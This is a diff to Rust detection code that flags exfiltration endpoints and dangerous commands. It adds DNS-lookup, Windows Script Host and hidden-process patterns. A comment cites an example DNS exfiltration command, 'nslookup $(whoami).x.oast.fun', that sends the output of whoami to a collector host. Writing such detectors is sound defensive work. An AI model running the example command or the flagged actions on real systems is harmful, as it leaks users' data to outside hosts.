@@ -305,9 +305,11 @@ pub fn endpoint_kind(s: &str) -> Option<Endpoint> {
     ];
     const IPLOOKUP: &[&str] = &["api.ipify.org", "ipinfo.io", "ip-api.com", "ifconfig.me", "icanhazip.com", "checkip.amazonaws.com", "ipapi.co", "myexternalip.com", "ident.me"];
     let has = |list: &[&str]| list.iter().any(|p| l.contains(p));
+    // A collector host inside a command line (`nslookup $(whoami).x.oast.fun`).
+    let token_has = |list: &[&str]| l.split_whitespace().any(|t| list.iter().any(|p| t.contains(p)) && t.contains('.'));
     if has(WEBHOOK) {
         Some(Endpoint::Webhook)
-    } else if has(COLLECTOR) && (l.contains("://") || l.contains('.')) && !l.contains(' ') {
+    } else if token_has(COLLECTOR) && (l.contains("://") || !l.contains(' ') || l.split_whitespace().count() <= 6) {
         Some(Endpoint::Collector)
     } else if has(TUNNEL) {
         Some(Endpoint::Tunnel)
@@ -365,6 +367,13 @@ pub fn dangerous_command(s: &str) -> Option<&'static str> {
         ("reg add", "a registry write"),
         ("vssadmin", "vssadmin"),
         ("attrib +h", "hiding a file"),
+        ("nslookup ", "a DNS lookup"),
+        ("dig +short", "a DNS lookup"),
+        ("wscript", "Windows Script Host"),
+        ("cscript", "Windows Script Host"),
+        ("pythonw", "a hidden Python process"),
+        ("start /min", "a hidden Windows process"),
+        ("curl.exe", "curl"),
     ];
     PATTERNS.iter().find(|(p, _)| l.contains(p)).map(|(_, d)| *d)
 }
